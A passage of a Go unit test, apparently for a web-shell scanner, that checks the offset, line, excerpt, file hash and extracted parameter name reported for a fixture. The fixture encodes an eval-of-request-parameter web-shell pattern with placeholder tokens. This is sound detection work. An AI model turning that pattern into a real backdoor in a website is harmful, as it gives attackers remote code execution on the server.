				t.Errorf("offset %d does not lead to the construct: %q", e.Offset, raw[e.Offset:min(int(e.Offset)+12, len(raw))])
			}
			line := int64(3)
			if name == "ansi" {
				line = 4
			}
			if e.Line != line {
				t.Errorf("line %d, want %d", e.Line, line)
			}
			if !strings.Contains(e.Excerpt, fixture("«EVAL»(«REQ»[\"k\"]")) {
				t.Errorf("excerpt %q does not show the construct", e.Excerpt)
			}
			if e.SHA256 != hashOf(raw) {
				t.Errorf("hash is not that of the file")
			}
			if got := findings[0].Entities[postern.ShellParameter]; got != "k" {
				t.Errorf("parameter %q, want k", got)
			}
		})
	}
}
